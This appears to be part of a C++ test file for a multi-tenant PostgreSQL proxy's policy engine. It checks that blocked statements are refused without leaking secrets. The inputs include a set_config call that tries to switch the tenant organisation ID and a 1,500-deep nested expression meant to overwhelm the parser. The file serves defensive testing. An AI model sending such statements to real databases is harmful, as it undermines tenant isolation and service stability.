  const PolicyVerdict verdict = *engine.Inspect(
      memo,       sessions.For(Who::MS), "SELECT set_config('app.current_organization_id', 'secret-uuid', false)",
      StatementSource::kSimpleQuery);
  CHECK_FALSE(verdict.allowed);
  CHECK(verdict.fingerprint.size() == 16);
  CHECK(verdict.normalized == "SELECT set_config($1, $2, $3)");
  CHECK(verdict.reason.find("secret") == std::string::npos);

  const PolicyVerdict unparseable =
      *engine.Inspect(memo, sessions.For(Who::MS), "SELECT 'secret' FROM WHERE", StatementSource::kParse);
  CHECK(unparseable.rule_id == "parse.error");
  CHECK(unparseable.fingerprint.empty());
  CHECK(unparseable.normalized.empty());
  CHECK(unparseable.reason.find("secret") == std::string::npos);
}

TEST_CASE("FunctionCall messages are blocked unless the rule is off", "[policy][rules]") {
  PolicyEngine engine;
  auto config = LoadTestConfig(BaseYaml());
  const PolicyVerdict verdict = *engine.InspectFunctionCall(Session(*config, "acme", config::TenantRole::kAdmin));
  CHECK_FALSE(verdict.allowed);
  CHECK(verdict.rule_id == "protocol.function_call");

  auto relaxed = LoadTestConfig(BaseYaml("policy: { rules: { protocol.function_call: off } }\n"));
  CHECK(engine.InspectFunctionCall(Session(*relaxed, "acme", config::TenantRole::kAdmin))->allowed);
}

TEST_CASE("statements nested deeper than the inspector reads are refused, not forwarded", "[policy][rules]") {
  Sessions sessions{LoadTestConfig(BaseYaml())};
  PolicyEngine engine;
  VerdictMemo memo;
  std::string sql = "SELECT ";
  for (int i = 0; i < 1500; ++i) sql += "(";
  sql += "1";
  for (int i = 0; i < 1500; ++i) sql += "+1)";
  const PolicyVerdict verdict = *engine.Inspect(memo, sessions.For(Who::MS), sql, StatementSource::kSimpleQuery);
  CHECK_FALSE(verdict.allowed);
  CHECK(verdict.rule_id == "parse.error");
}

}  // namespace
}  // namespace pgtenant::policy
